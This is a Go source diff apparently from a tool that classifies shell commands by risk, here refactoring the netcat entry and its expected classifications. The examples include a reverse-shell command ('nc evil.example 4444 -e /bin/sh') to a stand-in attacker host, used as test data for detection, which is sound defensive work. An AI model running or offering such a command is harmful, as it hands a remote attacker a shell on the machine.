@@ -35,7 +35,7 @@ var netCommands = []Command{
 		Flags:   "-46bCdDFhklnNrStuUvz listen keep-open udp verbose ssl broker chat no-dns recv-only send-only",
 		Values:  "-iIMmOpPqsTVwWX source source-port wait idle-timeout proxy max-conns delay proxy-type proxy-auth",
 		Opts:    []Opt{{"-ec exec sh-exec lua-exec", HasArg, Executes}, {"-o output hex-dump", HasArg, WritesValue}, {"-x", HasArg, Unsafe}},
-		ReadsIf: "-z", Unless: "-lkUecu listen exec sh-exec lua-exec", KnownWords: true, refine: refineConnects,
+		Reading: &Reading{If: "-z", Unless: "-lkUecu listen exec sh-exec lua-exec"}, KnownWords: true, refine: refineConnects,
 		Examples: []Example{{"nc evil.example 4444 -e /bin/sh", "net:evil.example narrow nc -e>>'/bin/sh'"}, {"nc -z localhost 80", "ro net:localhost"}, {"nc -z -w3 h 1-99", "ro net:h"}, {"nc -lp 80", ""}, {"nc h 80", "net:h"}, {"nc -zo .envrc h 80", "net:h write:.envrc narrow"}, {"nc -zl 80", "net:80"}, {"nc -zec id h 1", "net:id narrow nc -e>>'c'"}},
 	},
 	{
